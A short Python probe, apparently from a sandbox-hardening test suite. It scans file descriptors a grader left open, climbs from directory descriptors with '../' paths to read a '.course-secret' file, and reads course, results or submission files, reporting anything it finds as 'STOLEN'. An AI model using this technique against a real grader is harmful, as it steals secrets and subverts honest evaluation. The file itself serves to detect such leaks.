"""Looks for descriptors that the grader left open (files, folders, sockets), and climbs from folders with `..` to the course secret.

family: reading
start: solved
preamble: leave_a_trace
"""

# %% first
_achieved, _report = _traces_of("read_inherited_descriptors")

import os
import stat

_stolen = []
for _fd in range(3, 1024):
    try:
        _mode = os.fstat(_fd).st_mode
    except OSError:
        continue
    if stat.S_ISDIR(_mode):
        for _up in ("", "../", "../../", "../../../", "../../../../"):
            for _name in (".course-secret", "work/main/.course-secret"):
                try:
                    _file = os.open(_up + _name, os.O_RDONLY, dir_fd=_fd)
                    _stolen.append(os.read(_file, 80).decode())
                    os.close(_file)
                except OSError:
                    continue
    elif stat.S_ISREG(_mode):
        try:
            _where = os.readlink(f"/proc/self/fd/{_fd}")
            if "course" in _where or "results" in _where or "submissions" in _where:
                _stolen.append(f"{_where}: {os.pread(_fd, 40, 0)!r}")
        except OSError:
            continue
if _stolen:
    _achieved(_stolen)
    raise AssertionError("STOLEN: " + "; ".join(_stolen)[:400])
